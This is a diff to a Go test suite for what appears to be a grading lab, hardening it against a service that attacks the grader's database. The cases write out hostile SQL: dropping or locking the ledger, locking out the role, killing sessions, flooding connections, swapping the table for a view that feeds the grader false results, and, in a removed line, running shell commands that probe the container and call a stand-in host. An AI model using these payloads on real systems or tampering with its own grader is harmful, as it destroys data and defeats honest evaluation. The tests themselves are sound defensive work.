@@ -1,6 +1,9 @@
 package hostile
 
-import "fmt"
+import (
+	"fmt"
+	"slices"
+)
 
 // Defences of what runs.
 var (
@@ -20,14 +23,16 @@ var (
 		{"lab/engine/network.go", "Internal: !exposed,", "Internal: false,"},
 		{"lab/engine/network.go", "Options:  e.isolation(),", "Options:  nil,"},
 	}}
-	keptAnswer  = absent("answers are read to a bound and never unpacked", "the agent's image holds it; probe/agent tests it")
-	noFollow    = absent("redirects are answers", "the agent's image holds it; probe/agent tests it")
-	listenMax   = off("a service must listen within a minute", "grader/service.go", "const listenTime = time.Minute", "const listenTime = 2 * time.Minute")
-	answersMax  = off("a service must answer its health", "grader/service.go", "got[0].Status != 0 {", "got[0].Status != -1 {")
-	killed      = off("containers are killed", "lab/engine/sweep.go", "Force: true, RemoveVolumes: true,\n\t\t})\n\t\tif errdefs", "Force: false, RemoveVolumes: true,\n\t\t})\n\t\tif errdefs")
-	newSessions = off("who ends sessions again and again is the service", probeFile, "again := ended.MatchString(r.Error)", "again := false")
-	ownPatience = off("the probes bring their own patience", "fixtures/payment/exam.go", "&statement_timeout=0", "")
-	ownSchema   = off("a spoilt database is the service's doing", probeFile, "case spoilt(r.Error):", "case false:")
+	keptAnswer = absent("answers are read to a bound and never unpacked", "the agent's image holds it; probe/agent tests it")
+	noFollow   = absent("redirects are answers", "the agent's image holds it; probe/agent tests it")
+	listenMax  = off("a service must listen within a minute", "grader/service.go", "const listenTime = time.Minute", "const listenTime = 2 * time.Minute")
+	answersMax = off("a service must answer its health", "grader/service.go", "got[0].Status != 0 {", "got[0].Status != -1 {")
+	killed     = off("containers are killed", "lab/engine/sweep.go", "Force: true, RemoveVolumes: true,\n\t\t})\n\t\tif errdefs", "Force: false, RemoveVolumes: true,\n\t\t})\n\t\tif errdefs")
+	sealed     = off("the service does not own the database's server", "fixtures/payment/exam.go", "Seal:        seal,", "Seal:        nil,")
+	realTables = off("tables are tables", probeFile, "if len(s.Target.Tables) > 0 {", "if false {")
+	firstIn    = absent("the grader's session is there first", "and who came later would be told so by the database, as in sql-drop")
+	ownSchema  = off("a spoilt database is the service's doing", probeFile, "case spoilt(r.Error):", "case false:")
+	gone       = &Defence{Name: "a dropped ledger is the service's doing", Off: append(slices.Clone(ownSchema.Off), realTables.Off...)}
 )
 
 // runCases are group E: what a running service can do.
@@ -117,25 +122,26 @@ func runCases() []Case {
 				t.Replace("service/attack_begin.go", "package main\n", "package main\n\nimport (\n\t\"os\"\n\t\"os/exec\"\n\t\"os/signal\"\n\t\"syscall\"\n)\n")
 			}, Want: usual(), Defence: killed},
 		{ID: "E sql-drop", Threat: "drops the ledger, so that nothing can be found in it", Base: Strong, Scope: FirstProbe,
-			Make: before(`attackSQL(false, "DROP TABLE transactions CASCADE")`), Want: spoilt, Defence: ownSchema},
+			Make: before(`attackSQL(false, "DROP TABLE transactions CASCADE")`), Want: spoilt, Defence: gone},
 		{ID: "E sql-types", Threat: "changes types until questions fail", Base: Strong, Scope: FirstProbe,
 			Make: before(`attackSQL(false, "ALTER TABLE transactions DROP CONSTRAINT transactions_amount_check, ALTER amount TYPE text USING 'x'")`),
 			Want: spoilt, Defence: ownSchema},
-		{ID: "E sql-password", Threat: "changes the database's password behind itself", Base: Strong, Scope: FirstProbe,
+		{ID: "E sql-password", Threat: "shuts the door of the database behind itself", Base: Strong, Scope: FirstProbe,
 			Make: before(`attackSQL(false, "ALTER ROLE CURRENT_USER NOLOGIN PASSWORD 'x'")`),
-			Want: spoilt, Defence: ownSchema},
+			Want: usual("sql ALTER ROLE CURRENT_USER NOLOGIN PASSWORD 'x': ERROR: permission denied"), Defence: sealed},
+		{ID: "E sql-terminate", Threat: "ends every session of the database but its own", Base: Strong, Scope: FirstProbe,
+			Make: before("go attackSQL(true, `DO $$ BEGIN LOOP PERFORM pg_stat_clear_snapshot(); PERFORM pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename <> current_user OR client_addr <> inet_client_addr(); END LOOP; END $$`)"),
+			Want: usual("ERROR: must be a"), Defence: sealed},
 		{ID: "E sql-flood", Threat: "takes every connection of the database", Base: Strong, Scope: FirstProbe,
-			Make: before(`attackFlood(300)`), Want: spoilt, Defence: ownSchema},
+			Make: before(`attackFlood(300)`), Want: Want{Class: ServiceFailed}, Defence: firstIn},
 		{ID: "E sql-lock", Threat: "locks the ledger for good", Base: Strong, Scope: FirstProbe,
 			Make: before(`attackSQL(true, "BEGIN; LOCK TABLE transactions IN ACCESS EXCLUSIVE MODE")`), Want: spoilt, Defence: ownSchema},
-		{ID: "E sql-terminate", Threat: "ends every session of the database but its own", Base: Strong, Scope: FirstProbe,
-			Make: before("go attackSQL(true, `DO $$ BEGIN LOOP PERFORM pg_stat_clear_snapshot(); PERFORM pg_terminate_backend(pid) FROM pg_stat_activity WHERE client_addr <> inet_client_addr(); END LOOP; END $$`)"),
-			Want: Want{Class: ServiceFailed, Reason: "sessions of the grader's were ended, one after another"}, Defence: newSessions},
-		{ID: "E sql-impatience", Threat: "gives every statement of the database a millisecond", Base: Strong, Scope: FirstProbe,
-			Make: before(`attackSQL(false, "ALTER ROLE CURRENT_USER SET statement_timeout = 1")`), Want: usual(), Defence: ownPatience},
+		{ID: "E sql-view", Threat: "puts a view in the place of the ledger, which may show the grader what it likes", Base: Strong, Scope: FirstProbe,
+			Make: before(`attackSQL(false, "ALTER TABLE transactions RENAME TO real_transactions", "CREATE VIEW transactions AS SELECT * FROM real_transactions")`),
+			Want: Want{Class: ServiceFailed, Reason: "public.transactions is not a table"}, Defence: realTables},
 		{ID: "E sql-program", Threat: "runs programs in the database's container", Base: Strong, Scope: FirstProbe,
-			Make: attack(`attackSQL(false, "CREATE TABLE loot (line text)", "COPY loot FROM PROGRAM 'sed s/[[:space:]]/_/g /proc/self/status; id; test -e /var/run/docker.sock && echo SOC\\KET; wget -T 1 -O - http://192.0.2.1/ 2>&1; true'"); attackRead("SELECT line FROM loot")`),
-			Want: Want{Class: AsUsual, Says: []string{"read CapEff:_0000000000000000", "read uid=65532"}, Never: []string{"SOCKET"}}, Defence: noCaps},
+			Make: attack(`attackSQL(false, "CREATE TABLE loot (line text)", "COPY loot FROM PROGRAM 'id'")`),
+			Want: usual("pg_execute_server_program"), Defence: sealed},
 	}
 }
 
